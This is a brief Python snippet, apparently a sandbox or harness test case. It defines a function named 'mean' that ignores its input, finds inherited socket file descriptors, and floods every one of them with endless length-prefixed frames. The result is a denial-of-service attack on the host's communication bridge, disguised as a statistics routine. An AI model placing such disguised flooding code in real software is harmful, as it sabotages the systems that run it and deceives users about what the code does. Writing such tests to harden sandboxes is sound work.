# tries: send frames without end
# look: yes
# not run elsewhere: there is no bridge
# %%
import os
import socket
import stat

def bridges():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield socket.socket(fileno=os.dup(fd))
        except OSError:
            continue


# %% mean
def mean(values):
    body = b"\x92\xa5tuple\x01"
    while True:
        for bridge in bridges():
            bridge.sendall((len(body).to_bytes(4, "big") + body) * 1000)
